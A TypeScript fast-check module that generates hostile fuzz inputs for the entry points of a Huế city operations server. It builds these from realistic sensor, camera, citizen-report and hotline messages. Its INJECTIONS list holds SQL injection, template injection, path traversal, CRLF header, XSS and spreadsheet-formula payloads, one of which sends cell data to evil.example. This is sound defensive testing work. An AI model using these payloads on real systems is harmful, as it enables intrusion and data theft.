/**
 * Hostile inputs for the fuzz tests of every entry point (issue 11, build item 7): what an attacker or a
 * broken field device sends. Shared by the in-process properties of streams (src/entry-points.fuzz.spec.ts),
 * the end-to-end properties of the server (ioc-server/test/fuzz.int.spec.ts) and `npm run fuzz`.
 *
 * The families: random, truncated, oversized, wrong-type, wrong-encoding (NUL, lone surrogates, invalid
 * UTF-8 bytes), deeply nested, prototype-shaped (`__proto__`, `constructor`, `toString` as keys and values)
 * and injection-shaped (SQL quotes, `${}`, `../`, CRLF). Most cases start from a realistic Huế message and
 * break one thing, so the fuzz gets past the schema to the validators behind it (addresses, phone numbers,
 * ward lookups) instead of being refused at the first brace.
 */
import fc from 'fast-check';

// ── words and characters ─────────────────────────────────────────────────────────────────────────────

/** Names that reach Object.prototype when a lookup table is a plain object, and a thenable's `then`. */
export const PROTO_WORDS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'isPrototypeOf',
  'propertyIsEnumerable',
  'toLocaleString',
  '__defineGetter__',
  '__lookupSetter__',
  'toJSON',
  'then',
  // Lower-case: these pass the device-id and metric patterns ([a-z0-9_-]).
  'tostring',
  'valueof',
  'hasownproperty',
] as const;

/** Injection-shaped text: SQL, templates, paths, headers, markup, spreadsheet formulas, number words. */
export const INJECTIONS = [
  "'",
  "''",
  '"',
  '\\',
  "'; DROP TABLE incidents; --",
  "' OR '1'='1",
  '1; SELECT pg_sleep(30)',
  "x' UNION SELECT password_hash FROM users --",
  '$1',
  '$$; DROP TABLE users; $$',
  '${process.exit(1)}',
  '${7*7}',
  '#{7*7}',
  "{{constructor.constructor('return process')()}}",
  '__proto__[polluted]=1',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '..\\..\\..\\windows\\win.ini',
  '/dev/zero',
  '%00',
  '%',
  '%zz',
  '%E0%A4%A',
  '\r\nSet-Cookie: ioc_session=stolen',
  '\r\n\r\n<html>',
  '<script>alert(1)</script>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'file:///etc/passwd',
  '=HYPERLINK("http://evil.example/?"&A1)',
  '+cmd|/C calc!A0',
  '@SUM(1+1)',
  '%s%s%s%n',
  '*',
  '?',
  '#',
  '+',
  '/',
  '',
  ' ',
  '\u00a0',
  'null',
  'undefined',
  'true',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '-1',
  '0',
  '9007199254740993',
  '0x10',
  '[]',
  '{}',
  '\u202eevil\u202c',
] as const;

/** UTF-16 code units that break naive code: NUL, lone surrogates, non-characters, separators, BOM, ESC. */
export const BAD_UNITS = [
  '\u0000',
  '\ud800',
  '\udbff',
  '\udc00',
  '\udfff',
  '\ufffe',
  '\uffff',
  '\u2028',
  '\u2029',
  '\u0085',
  '\ufeff',
  '\u200b',
  '\u001b',
  '\u007f',
  '\r',
  '\n',
  '\t',
] as const;

/** Byte sequences that are not UTF-8: stray bytes, overlong forms, CESU surrogates, truncated sequences. */
export const INVALID_UTF8: readonly (readonly number[])[] = [
  [0xff],
  [0xfe, 0xff],
  [0xc0, 0x80],
  [0xc1, 0xbf],
  [0xe0, 0x80, 0xaf],
  [0xed, 0xa0, 0x80],
  [0xed, 0xbf, 0xbf],
  [0xe2, 0x82],
  [0x80],
  [0xbf],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
  [0xf4, 0x90, 0x80, 0x80],
  [0xf0, 0x9f, 0x98],
];

/** Realistic Huế text, where hostile pieces are spliced in. */
export const HUE_TEXTS = [
  'Đèn đường hỏng cả dãy, tối om',
  'Rác ùn ứ ở chân cầu Dã Viên',
  'Ổ gà lớn giữa đường Hùng Vương',
  'Ngập sâu 40 cm trước chợ Đông Ba',
  'kiệt 12 Phan Đình Phùng, phường Thuận Hóa',
  'cầu Trường Tiền, Phú Xuân',
  '23 Lê Lợi, phường Vỹ Dạ, Thành phố Huế',
  'Nguyễn Thị Thu Hà',
  'Tôn Nữ Minh Châu',
  'Chiếu sáng',
  'Môi trường',
  'Giao thông',
  'tongdai-01',
  // NFD (what iOS sends) and mixed scripts.
  'Hu\u0065\u0302\u0301',
  'Thừa Thiên Huế 順化',
] as const;

// ── strings ──────────────────────────────────────────────────────────────────────────────────────────

/** Any UTF-16 code unit, lone surrogates included (fc's 'binary' unit never yields a half pair). */
const anyCodeUnit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));

/** `text` with `piece` inserted at a position chosen by `at` (0..1). */
const splice = (text: string, piece: string, at: number) => {
  const i = Math.floor(at * (text.length + 1));
  return text.slice(0, i) + piece + text.slice(i);
};

export interface HostileStringOptions {
  /** Leave out U+0000 (for entry points where a NUL is an open, known bug: see KNOWN_OPEN in fuzz.ts). */
  noNul?: boolean;
  /** Longest string produced; oversized cases are this long. Default 70,000 (over every 64 KB limit). */
  maxLength?: number;
}

/** One hostile string: a word, an injection, bad code units, random Unicode, a spliced Huế text, a huge one. */
export function hostileString(opts: HostileStringOptions = {}): fc.Arbitrary<string> {
  const max = opts.maxLength ?? 70_000;
  const bad = opts.noNul ? BAD_UNITS.filter((u) => u !== '\u0000') : [...BAD_UNITS];
  const clean = (s: string) => (opts.noNul ? s.replaceAll('\u0000', '') : s);
  const small = Math.min(max, 40);
  return fc
    .oneof(
      { weight: 4, arbitrary: fc.constantFrom(...PROTO_WORDS) },
      { weight: 6, arbitrary: fc.constantFrom(...INJECTIONS) },
      {
        weight: 3,
        arbitrary: fc.string({
          unit: fc.constantFrom(...bad, 'a', 'ư', 'Đ', '/', '"', "'", '\\', '%', '.', ' '),
          maxLength: small,
        }),
      },
      { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: small }) },
      { weight: 2, arbitrary: fc.string({ unit: anyCodeUnit, maxLength: small }) },
      {
        weight: 5,
        arbitrary: fc
          .tuple(
            fc.constantFrom(...HUE_TEXTS),
            fc.oneof(
              fc.constantFrom(...bad),
              fc.constantFrom(...PROTO_WORDS),
              fc.constantFrom(...INJECTIONS),
            ),
            fc.double({ min: 0, max: 1, noNaN: true }),
          )
          .map(([t, p, at]) => splice(t, p, at)),
      },
      {
        weight: 1,
        arbitrary: fc
          .tuple(
            // Oversized within the caller's limit: maxLength is a promise (a header, a path segment).
            fc.constantFrom(...new Set([256, 4097, max].map((n) => Math.min(n, max)))),
            fc.constantFrom('a', 'ư', '😀', '%', ...(opts.noNul ? [] : ['\u0000'])),
          )
          .map(([n, c]) => c.repeat(Math.ceil(n / c.length)).slice(0, n)),
      },
    )
    .map(clean);
}

/** Numbers at and past every edge (JSON cannot carry NaN or ±Infinity: those come out as `null` or raw text). */
export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(
    0,
    -0,
    -1,
    1,
    0.5,
    -1e9 - 1,
    1e9 + 1,
    1e12 + 1,
    -1e12 - 1,
    1e21,
    2 ** 31,
    2 ** 53 + 2,
    -(2 ** 53) - 2,
    Number.MAX_VALUE,
    Number.MIN_VALUE,
    Number.EPSILON,
    NaN,
    Infinity,
    -Infinity,
  ),
  fc.double(),
  fc.integer(),
);

/**
 * Timestamps at and past every edge: 1900 and year 1, far future, impossible dates (2026-02-29, hour 24,
 * second 60), odd offsets, just inside and just outside the ±5 minute and 30 day windows, Unix numbers as text.
 */
export const hostileTime: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '1900-01-01T00:00:00Z',
    '0001-01-01T00:00:00Z',
    '1970-01-01T00:00:00Z',
    '2000-02-29T12:00:00+07:00',
    '2026-02-29T00:00:00Z',
    '2026-02-30T00:00:00Z',
    '2026-13-01T00:00:00Z',
    '2026-11-27T24:00:00Z',
    '2026-11-27T23:60:00Z',
    '2026-11-27T03:00:60Z',
    '2026-11-27T03:00:00.1234567891Z',
    '2026-11-27T03:00:00+25:00',
    '2026-11-27T03:00:00-0000',
    '9999-12-31T23:59:59Z',
    '2026-11-27',
    '2026-11-27T03:00:00',
    '1764212400',
    'yesterday',
  ),
  fc
    .constantFrom(-31 * 86400, -30 * 86400 - 60, -29 * 86400, -3600, 0, 4 * 60, 6 * 60, 86400, 400 * 86400)
    .map((s) => new Date(Date.now() + s * 1000).toISOString()),
);

// ── JSON values and text ─────────────────────────────────────────────────────────────────────────────

/** A JSON token written as is, for what JSON.stringify cannot write: 1e309, -0, 01, NaN, deep nesting. */
export class RawJson {
  constructor(readonly text: string) {}
}

/** An object whose keys are own properties, `__proto__` included (a literal would set the prototype). */
export function objectOf(entries: readonly (readonly [string, unknown])[]): Record<string, unknown> {
  const o: Record<string, unknown> = {};
  for (const [k, v] of entries)
    Object.defineProperty(o, k, { value: v, enumerable: true, writable: true, configurable: true });
  return o;
}

/** JSON text of a value that may hold RawJson tokens and `__proto__` keys; strings via JSON.stringify. */
export function toJsonText(v: unknown): string {
  if (v instanceof RawJson) return v.text;
  if (v === undefined) return 'null';
  if (Array.isArray(v)) return `[${v.map(toJsonText).join(',')}]`;
  if (v instanceof Uint8Array) return toJsonText([...v]);
  if (typeof v === 'object' && v !== null)
    return `{${Object.keys(v)
      .map((k) => `${JSON.stringify(k)}:${toJsonText((v as Record<string, unknown>)[k])}`)
      .join(',')}}`;
  return JSON.stringify(v) ?? 'null';
}

/** Number tokens JSON allows but JSON.stringify never writes (1e309 parses to Infinity). */
const RAW_NUMBERS = ['1e309', '-1e309', '-0', '1E+2', '1e-400', '123456789012345678901234567890'];
/** Number tokens JSON does not allow (spliced into otherwise valid text by hostileBytes). */
const BAD_NUMBERS = ['01', '0x10', '.5', '1.', '+1', 'NaN', 'Infinity', '- 1'];

/** `[[[[…]]]]` or `{"a":{"a":…}}` nested `depth` deep; sometimes left open. */
export const deepJson: fc.Arbitrary<RawJson> = fc
  .tuple(fc.integer({ min: 64, max: 6000 }), fc.constantFrom('array', 'object'), fc.boolean())
  .map(([depth, kind, closed]) => {
    const open = kind === 'array' ? '[' : '{"a":';
    const close = kind === 'array' ? ']' : '}';
    return new RawJson(
      open.repeat(depth) + (kind === 'array' ? '1' : '1') + (closed ? close.repeat(depth) : ''),
    );
  });

export interface HostileValueOptions extends HostileStringOptions {
  /** Nesting of generated arrays and objects (deepJson adds far deeper text). Default 4. */
  depth?: number;
}

/** Keys: schema-like names, prototype words, hostile strings. */
export const hostileKey = (opts: HostileStringOptions = {}): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom(
      'ts',
      'value',
      'values',
      'unit',
      'id',
      'layer',
      'since',
      'token',
      'kpi',
      'scope',
      'code',
      'level',
    ),
    fc.constantFrom(...PROTO_WORDS),
    hostileString({ ...opts, maxLength: Math.min(opts.maxLength ?? 200, 200) }),
  );

/** Any JSON-ish value: hostile leaves, arrays, objects with hostile keys, raw number tokens, deep nests. */
export function hostileValue(opts: HostileValueOptions = {}): fc.Arbitrary<unknown> {
  const leaf = fc.oneof(
    { weight: 4, arbitrary: hostileString({ ...opts, maxLength: Math.min(opts.maxLength ?? 2000, 2000) }) },
    { weight: 3, arbitrary: hostileNumber },
    { weight: 1, arbitrary: fc.constantFrom(true, false, null) },
    { weight: 1, arbitrary: fc.constantFrom(...RAW_NUMBERS).map((t) => new RawJson(t)) },
  );
  const { value } = fc.letrec<{ value: unknown; array: unknown[]; object: Record<string, unknown> }>(
    (tie) => ({
      value: fc.oneof(
        { depthSize: 'small', maxDepth: opts.depth ?? 4 },
        { weight: 5, arbitrary: leaf },
        { weight: 1, arbitrary: tie('array') },
        { weight: 2, arbitrary: tie('object') },
      ),
      array: fc.array(tie('value'), { maxLength: 5 }),
      object: fc
        .array(fc.tuple(hostileKey(opts), tie('value')), { maxLength: 5 })
        .map((entries) => objectOf(entries)),
    }),
  );
  return fc.oneof({ weight: 12, arbitrary: value }, { weight: 1, arbitrary: deepJson });
}

// ── mutations of a valid message ─────────────────────────────────────────────────────────────────────

type Path = (string | number)[];

const ISO_LIKE = /^\d{4}-\d{2}-\d{2}T/;

/** Every path to a value inside `v` (objects and arrays, up to 4 deep), the root excluded. */
function pathsOf(v: unknown, prefix: Path = [], out: Path[] = []): Path[] {
  if (prefix.length >= 4 || v === null || typeof v !== 'object') return out;
  for (const k of Object.keys(v)) {
    const p = [...prefix, Array.isArray(v) ? Number(k) : k];
    out.push(p);
    pathsOf((v as Record<string, unknown>)[k], p, out);
  }
  return out;
}

const clone = <T>(v: T): T => structuredClone(v);

function setAt(root: unknown, path: Path, value: unknown): unknown {
  const copy = clone(root) as Record<string | number, unknown>;
  let node: Record<string | number, unknown> = copy;
  for (const k of path.slice(0, -1)) node = node[k] as Record<string | number, unknown>;
  Object.defineProperty(node, path.at(-1)!, { value, enumerable: true, writable: true, configurable: true });
  return copy;
}

function deleteAt(root: unknown, path: Path): unknown {
  const copy = clone(root) as Record<string | number, unknown>;
  let node: Record<string | number, unknown> = copy;
  for (const k of path.slice(0, -1)) node = node[k] as Record<string | number, unknown>;
  if (Array.isArray(node)) node.splice(Number(path.at(-1)), 1);
  else delete node[path.at(-1)!];
  return copy;
}

function getAt(root: unknown, path: Path): unknown {
  let node = root as Record<string | number, unknown> | undefined;
  for (const k of path) node = node?.[k] as Record<string | number, unknown> | undefined;
  return node;
}

/**
 * A valid message with one thing broken: a field replaced by a hostile value of any type, or a string field by
 * a hostile string of a length the schema still accepts (so it reaches the validators behind the schema), a
 * field removed, a hostile key added, a value wrapped in an array or turned into text, the whole replaced.
 */
export function mutated(valid: fc.Arbitrary<unknown>, opts: HostileValueOptions = {}): fc.Arbitrary<unknown> {
  return valid.chain((v) => {
    const paths = pathsOf(v);
    if (paths.length === 0) return hostileValue(opts);
    const path = fc.constantFrom(...paths);
    return fc.oneof(
      { weight: 4, arbitrary: fc.tuple(path, hostileValue(opts)).map(([p, x]) => setAt(v, p, x)) },
      {
        weight: 6,
        arbitrary: fc
          .tuple(path, hostileString({ ...opts, maxLength: 120 }))
          .map(([p, s]) => (typeof getAt(v, p) === 'string' ? setAt(v, p, s) : setAt(v, p, s.length))),
      },
      { weight: 2, arbitrary: path.map((p) => deleteAt(v, p)) },
      {
        weight: 2,
        arbitrary: fc.tuple(path, hostileTime).map(([p, t]) => {
          const times = paths.filter((q) => {
            const x = getAt(v, q);
            return typeof x === 'string' && ISO_LIKE.test(x);
          });
          return setAt(v, times.length > 0 ? times[0]! : p, t);
        }),
      },
      {
        weight: 2,
        arbitrary: fc
          .tuple(fc.constantFrom<Path>([], ...paths), hostileKey(opts), hostileValue({ ...opts, depth: 2 }))
          .map(([p, k, x]) => {
            const target = p.length === 0 ? v : getAt(v, p);
            if (target === null || typeof target !== 'object' || Array.isArray(target)) return setAt(v, p, x);
            return p.length === 0 ? setAt(v, [k], x) : setAt(v, [...p, k], x);
          }),
      },
      { weight: 1, arbitrary: path.map((p) => setAt(v, p, [getAt(v, p)])) },
      { weight: 1, arbitrary: path.map((p) => setAt(v, p, toJsonText(getAt(v, p)))) },
      { weight: 1, arbitrary: fc.constantFrom(null, [], [v], 'null', 0).map((x) => x) },
    );
  });
}

// ── bytes ────────────────────────────────────────────────────────────────────────────────────────────

const utf8 = (s: string) => new TextEncoder().encode(s);

const concat = (...parts: (Uint8Array | readonly number[])[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let i = 0;
  for (const p of parts) {
    out.set(p, i);
    i += p.length;
  }
  return out;
};

export interface HostileBytesOptions extends HostileValueOptions {
  /** Largest random-filler body (oversized cases). Default 70,000 bytes. */
  maxBytes?: number;
}

/**
 * Bytes on the wire from a message arbitrary: its JSON text, often broken at the byte level (truncated,
 * an invalid UTF-8 sequence or a NUL spliced in, a byte flipped, a BOM or UTF-16 in front), or random bytes.
 */
export function hostileBytes(
  message: fc.Arbitrary<unknown>,
  opts: HostileBytesOptions = {},
): fc.Arbitrary<Uint8Array> {
  const text = message.map((m) => utf8(toJsonText(m)));
  const invalid = fc.constantFrom(...INVALID_UTF8.filter((b) => !opts.noNul || !b.includes(0)));
  const at = fc.double({ min: 0, max: 1, noNaN: true });
  const idx = (b: Uint8Array, f: number) => Math.floor(f * b.length);
  return fc.oneof(
    { weight: 20, arbitrary: text },
    { weight: 2, arbitrary: fc.tuple(text, at).map(([b, f]) => b.slice(0, idx(b, f))) },
    {
      weight: 2,
      arbitrary: fc
        .tuple(text, invalid, at)
        .map(([b, bad, f]) => concat(b.slice(0, idx(b, f)), bad, b.slice(idx(b, f)))),
    },
    ...(opts.noNul
      ? []
      : [
          {
            weight: 1,
            arbitrary: fc
              .tuple(text, at)
              .map(([b, f]) => concat(b.slice(0, idx(b, f)), [0], b.slice(idx(b, f)))),
          },
        ]),
    {
      weight: 1,
      arbitrary: fc.tuple(text, at, fc.integer({ min: 1, max: 255 })).map(([b, f, x]) => {
        const c = b.slice();
        if (c.length > 0) c[Math.min(idx(c, f), c.length - 1)]! ^= x;
        return opts.noNul ? c.map((y) => (y === 0 ? 0x20 : y)) : c;
      }),
    },
    { weight: 1, arbitrary: text.map((b) => concat([0xef, 0xbb, 0xbf], b)) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(message, fc.constantFrom(...BAD_NUMBERS))
        .map(([m, bad]) => utf8(toJsonText(m).replace(/-?\d+(\.\d+)?/, bad))),
    },
    {
      weight: 1,
      arbitrary: message.map((m) => {
        // UTF-16LE: what a Windows tool writes.
        const s = toJsonText(m);
        const b = new Uint8Array(2 + s.length * 2);
        b[0] = 0xff;
        b[1] = 0xfe;
        for (let i = 0; i < s.length; i++) {
          b[2 + 2 * i] = s.charCodeAt(i) & 0xff;
          b[3 + 2 * i] = s.charCodeAt(i) >> 8;
        }
        return opts.noNul ? b.map((y) => (y === 0 ? 0x20 : y)) : b;
      }),
    },
    {
      weight: 1,
      arbitrary: fc
        .uint8Array({ maxLength: 64 })
        .map((b) => (opts.noNul ? b.map((y) => (y === 0 ? 1 : y)) : b)),
    },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(opts.maxBytes ?? 70_000, 16 * 1024 + 1, 8 * 1024 + 1)
        .map((n) => utf8(`{"ts":"2026-11-27T03:00:00Z","value":1,"pad":"${'a'.repeat(n)}"}`)),
    },
  );
}

// ── realistic Huế messages ───────────────────────────────────────────────────────────────────────────

/** Points inside wards of Thành phố Huế (label points of the 2025 file, and landmarks). */
export const HUE_POINTS: readonly (readonly [lon: number, lat: number])[] = [
  [107.58315, 16.48442], // Phú Xuân
  [107.61175, 16.4757], // Vỹ Dạ
  [107.58255, 16.45382], // Thuận Hóa
  [107.60848, 16.43957], // An Cựu
  [107.5881, 16.4684], // cầu Trường Tiền
  [107.5893, 16.4727], // chợ Đông Ba
];
export const HUE_WARD_CODES = ['19753', '19774', '19777', '19789', '19804', '19813', '19815'] as const;

/** A time `secondsAgo` before now, as a device clock writes it (Z, or +07:00 for Huế's own). */
const isoAgo = fc.tuple(fc.integer({ min: 1, max: 6 * 3600 }), fc.boolean()).map(([ago, local]) => {
  const d = new Date(Date.now() - ago * 1000);
  if (!local) return d.toISOString();
  const l = new Date(d.getTime() + 7 * 3600_000).toISOString().slice(0, 19);
  return `${l}+07:00`;
});

const vnPhone = fc.oneof(
  fc.constantFrom('0905111222', '0914 333 444', '+84 234 3822 123', '0084 905.111.222', '84-935-123-456'),
  fc.integer({ min: 10_000_000, max: 99_999_999 }).map((n) => `09${n}`),
);

export const sensorKind = fc.constantFrom('water_level', 'rain', 'air_quality', 'traffic');
export const deviceId = fc.oneof(
  fc.constantFrom('kim-long', 'phu-oc', 'rain-a-luoi', 'rain-binh-dien', 'aq-le-loi'),
  fc.stringMatching(/^[a-z0-9][a-z0-9_-]{0,20}$/),
);

/** `{ ts, value, unit? }` or `{ ts, values: {...} }` on hue/sensors/{kind}/{deviceId}. */
export const sensorPayload = fc.oneof(
  fc.record(
    {
      ts: isoAgo,
      value: fc.double({ min: -10, max: 500, noNaN: true }),
      unit: fc.constantFrom('m', 'mm/h', 'µg/m³'),
    },
    { requiredKeys: ['ts', 'value'] },
  ),
  fc.record({
    ts: isoAgo,
    values: fc.dictionary(
      fc.stringMatching(/^[a-z][a-z0-9_]{0,12}$/),
      fc.double({ min: 0, max: 300, noNaN: true }),
      {
        minKeys: 1,
        maxKeys: 4,
      },
    ),
  }),
);

export const cameraId = fc.oneof(
  fc.constantFrom('cam-truong-tien', 'cam-phu-xuan-bridge', 'cam-ngo-mon', 'cam-dong-ba'),
  fc.stringMatching(/^cam-[a-z0-9-]{1,16}$/),
);
export const cameraEvent = fc.record(
  {
    ts: isoAgo,
    type: fc.constantFrom(
      'flooding',
      'congestion',
      'accident',
      'fire_smoke',
      'crowd',
      'littering',
      'illegal_parking',
    ),
    confidence: fc.double({ min: 0, max: 1, noNaN: true }),
    snapshot_url: fc.constantFrom('https://cam.hue.gov.vn/snap/1.jpg', 'http://10.46.0.12/snap.jpg'),
  },
  { requiredKeys: ['ts', 'type', 'confidence'] },
);
export const cameraStatus = fc.record({ ts: isoAgo, online: fc.boolean() });

const hueText = fc.constantFrom(...HUE_TEXTS);

/** A Hue-S report (phản ánh hiện trường) as the app posts it. */
export const hueSReport = fc
  .record(
    {
      id: fc.stringMatching(/^HUES-2026-[0-9]{6}$/),
      category: fc.constantFrom('Chiếu sáng', 'Môi trường', 'Giao thông', 'Thoát nước, ngập úng', 'Khác'),
      title: hueText,
      description: hueText,
      point: fc.constantFrom(...HUE_POINTS),
      address: hueText,
      media: fc.array(
        fc.record({
          url: fc.constantFrom(
            'https://hues.thuathienhue.gov.vn/media/a.jpg',
            'https://cdn.hue-s.vn/v/1.mp4',
          ),
          type: fc.constantFrom('image', 'video'),
        }),
        { maxLength: 2 },
      ),
      reporter: fc.record({ name: hueText, phone: vnPhone }, { requiredKeys: [] }),
      created_at: isoAgo,
      urgent: fc.boolean(),
    },
    { requiredKeys: ['id', 'category', 'description', 'point', 'media', 'reporter', 'created_at'] },
  )
  .map(({ point, ...r }) => ({ ...r, lon: point[0], lat: point[1] }));

/** A ticket of Tổng đài 19001075. */
export const hotlineTicket = fc
  .record(
    {
      ticket_id: fc.stringMatching(/^HL-1127-[0-9]{4}$/),
      category: fc.constantFrom('Chiếu sáng', 'Môi trường', 'Giao thông'),
      summary: hueText,
      caller_phone: vnPhone,
      address: hueText,
      point: fc.option(fc.constantFrom(...HUE_POINTS), { nil: undefined }),
      created_at: isoAgo,
      agent: fc.constantFrom('tongdai-01', 'tongdai-02'),
      urgent: fc.boolean(),
    },
    { requiredKeys: ['ticket_id', 'summary', 'caller_phone', 'address', 'created_at', 'agent'] },
  )
  .map(({ point, ...t }) => (point ? { ...t, lon: point[0], lat: point[1] } : t));

/** A KPI sample of a public-service system. */
export const kpiSample = fc.record(
  {
    kpi: fc.constantFrom('ty_le_xu_ly_dung_han', 'ty_le_hai_long', 'ty_le_phan_anh_da_xu_ly'),
    scope: fc.oneof(
      fc.constant({ level: 'province', code: '46' }),
      fc.constantFrom(...HUE_WARD_CODES).map((code) => ({ level: 'ward', code })),
      fc.constantFrom('so-xay-dung', 'cong-an-tinh').map((code) => ({ level: 'agency', code })),
    ),
    value: fc.double({ min: 0, max: 100, noNaN: true }),
    target: fc.constantFrom(80, 90, 95),
    ts: isoAgo,
  },
  { requiredKeys: ['kpi', 'scope', 'value', 'ts'] },
);

/** Header and cells of a hotline export (the Vietnamese column names the call centre uses). */
export const CSV_HEADER_VI = [
  'Mã phiếu',
  'Lĩnh vực',
  'Nội dung',
  'Số điện thoại',
  'Địa chỉ',
  'Vĩ độ',
  'Kinh độ',
  'Thời gian',
  'Điện thoại viên',
];
const CSV_HEADER_EN = [
  'ticket_id',
  'category',
  'summary',
  'caller_phone',
  'address',
  'lat',
  'lon',
  'created_at',
  'agent',
];

/** One CSV cell, quoted when it must be. */
export const csvCell = (s: string) =>
  /[",\r\n]/.test(s) || /^\s|\s$/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;

/** A CSV file: a header (sometimes hostile), realistic rows with hostile cells, broken quoting, odd line ends. */
export function hostileCsv(opts: HostileStringOptions = {}): fc.Arbitrary<string> {
  const cell = fc.oneof(
    { weight: 3, arbitrary: hueText },
    { weight: 3, arbitrary: hostileString({ ...opts, maxLength: 300 }) },
    { weight: 1, arbitrary: fc.constantFrom('', '"', '"unterminated', 'a"b', '""', ',', '\r\n') },
  );
  const row = hotlineTicket.chain((t) =>
    fc.tuple(fc.integer({ min: 0, max: 8 }), cell, fc.boolean()).map(([i, bad, breakIt]) => {
      const r = t as Record<string, unknown>;
      const cells = [
        r.ticket_id,
        r.category,
        r.summary,
        r.caller_phone,
        r.address,
        r.lat,
        r.lon,
        r.created_at,
        r.agent,
      ].map((c) => (c === undefined ? '' : String(c)));
      if (breakIt) cells[i] = bad;
      return cells;
    }),
  );
  const header = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(CSV_HEADER_VI, CSV_HEADER_EN) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(
          fc.constantFrom(CSV_HEADER_VI, CSV_HEADER_EN),
          fc.integer({ min: 0, max: 8 }),
          hostileString({ ...opts, maxLength: 60 }),
        )
        .map(([h, i, s]) => h.map((c, j) => (j === i ? s : c))),
    },
  );
  return fc
    .tuple(
      header,
      fc.array(row, { maxLength: 4 }),
      fc.constantFrom('\n', '\r\n', '\r'),
      fc.constantFrom('', '\ufeff'),
      fc.boolean(),
    )
    .map(
      ([h, rows, eol, bom, raw]) =>
        bom + [h, ...rows].map((cells) => cells.map((c) => (raw ? c : csvCell(c))).join(',')).join(eol),
    );
}
